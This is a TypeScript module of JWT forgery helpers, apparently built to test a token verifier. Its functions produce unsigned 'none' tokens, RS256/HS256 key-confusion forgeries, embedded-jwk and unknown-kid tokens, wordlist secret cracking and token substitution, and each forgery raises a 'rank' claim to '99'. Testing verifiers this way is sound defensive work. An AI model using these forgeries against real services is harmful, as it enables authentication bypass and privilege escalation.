/* With jsonwebtoken as far as it goes: it refuses to sign what is unsafe, so some is done by hand. */
import { createHmac, createPublicKey, createSecretKey, generateKeyPairSync } from 'node:crypto';
import jsonwebtoken, { type Algorithm, type JwtHeader, type Secret } from 'jsonwebtoken';
import type { Evidence, Jwks } from './evidence.ts';

function resign(token: string, change: object, key: Secret, algorithm: Algorithm): string {
  const { header, payload } = readToken(token);
  const changed = { ...header, ...change, alg: algorithm } as unknown as JwtHeader;
  return jsonwebtoken.sign({ ...payload, rank: '99' }, key, {
    algorithm,
    header: changed,
    noTimestamp: true,
    allowInvalidAsymmetricKeyTypes: true,
  });
}

export function forgeUnsigned(token: string): string {
  const unsigned = resign(token, {}, '', 'none');
  // jsonwebtoken writes "none" as the RFC does; the header is not signed, so it is written anew.
  const { header } = readToken(unsigned);
  return [encodeSegment({ ...header, alg: 'noNE' }), ...unsigned.split('.').slice(1)].join('.');
}

export function forgeWithPublicKey(token: string, jwks: Jwks): string {
  const { kid } = readToken(token).header;
  const jwk = jwks.keys.find((key) => key.kid === kid) ?? {};
  const pem = createPublicKey({ key: jwk, format: 'jwk' }).export({ format: 'pem', type: 'spki' });
  // As a text jsonwebtoken would see that it is a public key. As a secret's bytes it does not.
  return resign(token, {}, createSecretKey(Buffer.from(pem)), 'HS256');
}

export function forgeWithOwnKey(token: string): string {
  const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  return resign(token, { jwk: publicKey.export({ format: 'jwk' }) }, privateKey, 'RS256');
}

export function forgeWithUnknownKid(token: string): string {
  const { header, payload } = readToken(token);
  const text = `${encodeSegment({ ...header, alg: 'HS256', kid: 404 })}.${encodeSegment({ ...payload, rank: '99' })}`;
  return `${text}.${createHmac('sha256', createSecretKey('', 'utf8')).update(text).digest('base64url')}`;
}

export function substitute(evidence: Evidence) {
  const sorted: Record<string, string> = {};
  for (const token of evidence.others) {
    const { header, payload } = readToken(token);
    const isAccessToken = header['typ'] === 'at+jwt';
    const isOurs = payload['iss'] === 'https://login.rubywave.io';
    sorted[!isAccessToken ? 'idToken' : isOurs ? 'otherAudience' : 'otherIssuer'] = token;
  }
  return sorted as { idToken: string; otherAudience: string; otherIssuer: string };
}

export function crack(token: string, words: readonly string[]): string | undefined {
  return words.find((word) => {
    try {
      return jsonwebtoken.verify(token, word, { algorithms: ['HS256'], ignoreExpiration: true });
    } catch {
      return false;
    }
  });
}

/** A third dot, and what a lax reader leaves out. */
export function twin(token: string): string {
  return `${token}.twin`;
}

export function readToken(token: string) {
  const decoded = jsonwebtoken.decode(token, { complete: true });
  return {
    header: { ...decoded?.header } as Record<string, unknown>,
    payload: decoded?.payload as Record<string, unknown>,
  };
}

export function encodeSegment(value: object): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url');
}
